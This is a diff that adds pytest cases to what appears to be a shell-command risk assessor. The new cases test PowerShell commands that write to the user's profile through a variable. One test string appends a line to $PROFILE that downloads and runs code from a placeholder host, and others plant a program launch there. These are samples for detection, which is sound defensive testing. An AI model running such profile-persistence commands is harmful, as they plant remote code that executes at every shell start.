@@ -542,3 +542,18 @@ SPLATS = [
 @pytest.mark.parametrize("command,shell,want", SPLATS)
 def test_splatted_known_folders(command: str, shell: str, want: object) -> None:
     assert assess(command, shell).level == want
+
+
+# ---------------------------------------------------------------- profile held in a variable (F8)
+PROFILE_HELD = [
+    ("$f = $PROFILE; Add-Content $f 'iex (irm https://x.example/p)'", "powershell", C),
+    ("$f = $PROFILE; Set-Content -Path $f -Value 'Start-Process calc'", "powershell", C),
+    ("$f = $profile; 'Start-Process calc' >> $f", "powershell", C),
+    ("$f = $PROFILE; Get-Content $f", "powershell", S),
+    ("$f = 'notes.txt'; 'x' >> $f", "powershell", M),
+]
+
+
+@pytest.mark.parametrize("command,shell,want", PROFILE_HELD)
+def test_profile_held_in_a_variable(command: str, shell: str, want: object) -> None:
+    assert assess(command, shell).level == want
